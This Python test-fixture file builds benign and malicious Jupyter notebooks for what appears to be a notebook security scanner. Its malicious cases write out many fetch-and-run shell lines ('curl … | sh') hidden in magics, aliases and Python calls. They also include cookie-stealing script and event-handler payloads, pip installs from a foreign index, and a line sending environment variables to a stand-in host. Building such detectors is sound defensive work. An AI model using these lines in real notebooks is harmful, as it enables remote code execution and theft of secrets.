"""Notebooks: ordinary ones, shell lines in cells, and output that acts."""

import json


def make(cases):
    family = cases.family("notebook")
    for case, cells, note in ordinary():
        family.benign(case, "demo.ipynb", notebook(*cells), note)
    for case, cells, label, note in bad():
        family.labelled(label, case, "demo.ipynb", notebook(*cells), note)
    good = notebook(code("x = 1"))
    family.malicious("duplicate-source", "demo.ipynb", good.replace('"source": [', '"source": ["x = 1"], "source": ["!curl http://127.0.0.1/x | sh",', 1), "a cell's source twice")
    family.malicious("old-format", "demo.ipynb", json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": ["!curl http://127.0.0.1/x | sh"], "outputs": []}]}]}), "a shell line in the old format")
    family.malicious("checkpoint-copy", ".ipynb_checkpoints/demo-checkpoint.ipynb", notebook(code("!curl http://127.0.0.1/x | sh")), "a shell line in the hidden copy")
    for name, language in [("bash", "bash"), ("bash", "python"), ("anything", "sh")]:
        shell = json.loads(notebook(code("curl http://127.0.0.1/x | sh")))
        shell["metadata"] = {"kernelspec": {"name": name, "language": language, "display_name": "x"}}
        family.malicious(f"kernel-{name}-{language}", "demo.ipynb", json.dumps(shell), "cells that a shell reads")
    family.suspicious("broken", "demo.ipynb", good[:-40], "a cut notebook")


def notebook(*cells):
    kernel = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python", "version": "3.11.4"}}
    return json.dumps({"cells": list(cells), "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def code(source, outputs=(), language=None):
    return {"cell_type": "code", "execution_count": 1, "id": "a1", "metadata": {"language": language} if language else {}, "outputs": list(outputs), "source": source.splitlines(keepends=True)}


def prose(source):
    return {"cell_type": "markdown", "id": "b2", "metadata": {}, "source": source.splitlines(keepends=True)}


def shown(kind, value):
    return {"data": {kind: value, "text/plain": ["x"]}, "metadata": {}, "output_type": "display_data"}


def ordinary():
    table = "<table border=\"1\" class=\"dataframe\"><tr><th>a</th></tr><tr><td>1</td></tr></table>"
    return [
        ("inference", [prose("# A small model\n\nHow to use it."), code("from transformers import pipeline\n\npipe = pipeline('text-classification', model='lab/tiny')\npipe('a light load')")], "how to use a model"),
        ("training", [code("import torch\n\nmodel = torch.nn.Linear(2, 1)\nfor step in range(10):\n    loss = model(torch.zeros(1, 2)).sum()\n    loss.backward()"), code("%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])")], "training with a line for plots"),
        ("picture", [code("image", [shown("image/png", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")])], "a picture as output"),
        ("frame", [code("frame.head()", [shown("text/html", [table])])], "a table as output"),
        ("timing", [code("%%time\nx = sum(range(1000))"), code("%timeit x + 1")], "timings"),
        ("error", [code("1/0", [{"output_type": "error", "ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": ["\u001b[0;31mZeroDivisionError\u001b[0m"]}])], "an error as output"),
        ("empty", [], "no cells"),
        ("autoreload", [code("%load_ext autoreload\n%autoreload 2\nfrom net import Net")], "a line that loads modules again"),
        ("pip", [code("!pip install -q transformers accelerate"), code("%pip install datasets")], "lines that install well-known packages, as most notebooks have"),
        ("shell-harmless", [code("!ls -la\n!nvidia-smi")], "harmless shell lines"),
        ("magics", [code("%%capture\n!pip install -q datasets\nimport os"), code("%%writefile train.py\nimport torch\nprint(torch.__version__)"), code("!python train.py --lr {lr}"), code("%env CUDA_VISIBLE_DEVICES=0\nlen?"), code("%%html\n<b>done</b>"), code("%%script false\nleft out")], "magic words as people use them"),
        ("quotes", [code("text = \'\'\'\n!not a command\n%not magic\n\'\'\'"), code("print(text)")], "lines in a string that look like commands"),
        ("awaits", [code("await model.run()"), code("7 % 2")], "awaiting outside of functions"),
        ("prose-about-shell", [prose("Run it with:\n\n```\npython train.py\n```\n")], "prose about a command"),
    ]


def bad():
    script = "<script>fetch('http://127.0.0.1/?c=' + document.cookie)</script>"
    return [
        ("quote-over-cells", [code("x = \'\'\'"), code("import os\nos.system('curl http://127.0.0.1/x | sh')"), code("\'\'\'")], "malicious", "quotes that open in one cell and close in another"),
        ("torn-cell", [code("def f(:"), code("import os\nos.system('curl http://127.0.0.1/x | sh')")], "malicious", "a cell that is no Python before one that is"),
        ("shell-cell-tab", [code("\t%%bash\n\tcurl http://127.0.0.1/x | sh")], "malicious", "an indented cell of bash"),
        ("shell-cell-captured", [code("%%capture\n%%sh\ncurl http://127.0.0.1/x | sh")], "malicious", "a cell of a shell in a captured cell"),
        ("python-cell", [code("%%script python\nimport os\nos.system('curl http://127.0.0.1/x | sh')")], "malicious", "a cell of another Python"),
        ("unheard-of-cell", [code("%%unheard_of\ncurl http://127.0.0.1/x | sh")], "malicious", "a cell by a magic word that nobody knows"),
        ("time-line", [code("%time __import__('os').system('curl http://127.0.0.1/x | sh')")], "malicious", "a command in a timed line"),
        ("alias", [code("%alias go curl http://127.0.0.1/x | sh"), code("%go")], "malicious", "a command under another name"),
        ("filled", [code("tool = 'curl http://127.0.0.1/x'"), code("!{tool} | sh")], "malicious", "a command that stands in a name"),
        ("two-cells", [code("!wget -q http://127.0.0.1/x -O x.sh"), code("!sh x.sh")], "malicious", "one cell fetches and another runs it"),
        ("shell-fetch", [code("!curl -s http://127.0.0.1/x.sh | sh")], "malicious", "a shell line that runs what it fetches"),
        ("shell-double", [code("!!wget -qO- http://127.0.0.1/x | bash")], "malicious", "the second form of a shell line"),
        ("shell-cell", [code("%%bash\ncurl http://127.0.0.1/x | sh\n")], "malicious", "a cell of bash"),
        ("shell-script-cell", [code("%%script sh\ncurl http://127.0.0.1/x | sh\n")], "malicious", "a cell by %%script"),
        ("shell-sx", [code("%sx curl http://127.0.0.1/x | sh")], "malicious", "the magic word sx"),
        ("shell-system", [code("get_ipython().system('curl http://127.0.0.1/x | sh')")], "malicious", "the function behind the shell line"),
        ("shell-run-magic", [code("get_ipython().run_line_magic('system', 'curl http://127.0.0.1/x | sh')")], "malicious", "a magic word by its function"),
        ("shell-assigned", [code("out = !curl http://127.0.0.1/x | sh")], "malicious", "a shell line that is assigned"),
        ("shell-indented", [code("if True:\n    !curl http://127.0.0.1/x | sh")], "malicious", "an indented shell line"),
        ("python-os", [code("import os\nos.system('curl http://127.0.0.1/x | sh')")], "malicious", "a command by Python"),
        ("python-exec", [code("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")], "malicious", "exec of base64"),
        ("late-cell", [code("x = 1")] * 80 + [code("!curl http://127.0.0.1/x | sh")], "malicious", "after eighty cells"),
        ("perl-cell", [code("%%perl\nsystem('curl http://127.0.0.1/x | sh');")], "malicious", "a cell of Perl"),
        ("javascript-cell", [code("%%javascript\nIPython.notebook.kernel.execute(\"import os; os.system('echo')\")")], "malicious", "a cell of JavaScript that speaks to the kernel"),
        ("html-cell", [code(f"%%html\n{script}")], "suspicious", "a cell of HTML with a script"),
        ("output-script", [code("x", [shown("text/html", [script])])], "suspicious", "a script as output"),
        ("output-javascript", [code("x", [shown("application/javascript", ["fetch('http://127.0.0.1/')"])])], "suspicious", "JavaScript as output"),
        ("output-svg", [code("x", [shown("image/svg+xml", ["<svg onload=\"fetch('http://127.0.0.1/')\"/>"])])], "suspicious", "a picture with a script as output"),
        ("prose-script", [prose("# Hello\n\n<img src=x onerror=\"fetch('http://127.0.0.1/')\">")], "suspicious", "a script in prose"),
        ("prose-link", [prose("[click](javascript:fetch('http://127.0.0.1/'))")], "suspicious", "a link that is a script"),
        ("pip-foreign", [code("!pip install --extra-index-url http://127.0.0.1/simple tiny-net")], "malicious", "installs from a foreign index"),
        ("pip-address", [code("%pip install http://127.0.0.1/x.whl")], "malicious", "installs from an address"),
        ("token", [code("from huggingface_hub import login\nlogin('hf_' + 'x')\n!env | curl -F f=@- http://127.0.0.1/")], "malicious", "sends the environment away"),
    ]
